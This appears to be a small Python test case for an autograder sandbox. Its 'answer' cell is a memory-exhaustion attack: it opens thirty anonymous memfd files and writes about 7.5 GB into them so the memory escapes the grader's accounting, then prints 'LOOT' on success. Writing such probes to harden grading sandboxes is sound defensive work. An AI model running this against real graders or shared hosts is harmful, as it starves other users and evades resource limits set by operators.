"""Takes memory that counts as nobody's: anonymous files of memory, up to 7.5 GB."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; gets 7.5 GB of memory that is nobody's
# %% answer
import os

handles, block, written = [], b"x" * (64 << 20), 0
try:
    for number in range(30):
        handles.append(os.memfd_create(f"autograde-attack-{number}"))
        for _ in range(4):
            written += os.write(handles[-1], block)
except OSError as error:
    print(error)
for handle in handles:
    os.close(handle)
if written > 5 << 30:
    print("LOOT: 7.5 GB of memory that is nobody's")
